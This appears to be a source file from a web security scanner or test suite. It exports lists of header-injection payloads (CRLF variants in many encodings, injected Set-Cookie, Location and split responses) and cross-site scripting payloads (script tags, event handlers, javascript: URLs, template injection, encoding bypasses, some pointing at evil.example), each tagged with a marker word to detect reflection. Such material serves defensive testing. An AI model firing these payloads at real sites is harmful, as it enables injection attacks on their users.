// Texts that have split headers, or become markup, on other sites. Each carries a word of its own to look for.
export const mark = 'zqxmark';

const breaks = ['\r\n', '\n', '\r', '\r\n\r\n', '\n\n', '%0d%0a', '%0a', '%0d', '%0D%0A', '%250d%250a', '%250a', '\u2028', '\u2029', '\u0085', '\u560a', '\u560d', '%E5%98%8A%E5%98%8D', '\x0b', '\x0c', '\x00\r\n', '%00%0d%0a', '\\r\\n', '\r\n ', '\r\n\t', '%u000d%u000a'];
const injected = [`X-Injected: ${mark}`, `Set-Cookie: ${mark}=1`, `Location: https://evil.example/${mark}`, `Content-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nX-Injected: ${mark}`, `<h1>${mark}</h1>`];

/** Header injection. */
export const headerPayloads = breaks.flatMap((lead) => injected.map((header) => `/private/${lead}${header}`));

const elements = ['<script>alert(1)</script>', '<ScRiPt >alert(1)</sCrIpT>', '<script/x>alert(1)</script>', '<scr<script>ipt>alert(1)</script>', '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x>', '<math><mi xlink:href="data:x,<script>alert(1)</script>">', '<iframe src=javascript:alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>', '<a href=javascript:alert(1)>x</a>', '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>', '<marquee onstart=alert(1)>', '<base href=//evil.example>',
  '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<style>@import "//evil.example"</style>', '<form action=//evil.example><button>x', '<textarea><script>alert(1)</script>', '<!--<script>-->alert(1)', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<isindex action=javascript:alert(1)>', '<plaintext>', '<xmp><script>alert(1)</script></xmp>', '<template><script>alert(1)</script></template>', '<![CDATA[<script>alert(1)</script>]]>', '<?xml-stylesheet href="javascript:alert(1)"?>'];
const leads = ['', '">', "'>", '</title>', '</style>', '--></p>'];

/** Markup: each element on its own, and after what ends the place it could stand in. */
export const markupPayloads = [
  ...leads.flatMap((lead) => elements.slice(0, 18).map((element) => `${lead}${element}`)), ...elements.slice(18),
  '" onmouseover="alert(1)', "' onmouseover='alert(1)", '` onmouseover=`alert(1)', '" autofocus onfocus="alert(1)" x="', '&#60;script&#62;alert(1)&#60;/script&#62;', '&lt;script&gt;alert(1)&lt;/script&gt;', '\x3cscript\x3ealert(1)\x3c/script\x3e', '%3Cscript%3Ealert(1)%3C/script%3E',
  '%253Cscript%253Ealert(1)%253C/script%253E', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '＜script＞alert(1)＜/script＞', '\u00bcscript\u00bealert(1)\u00bc/script\u00be', '{{title}}', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', 'javascript:alert(1)', '\0<script>alert(1)</script>', '<\0script>alert(1)</script>',
].map((text) => `${text}${mark}`);
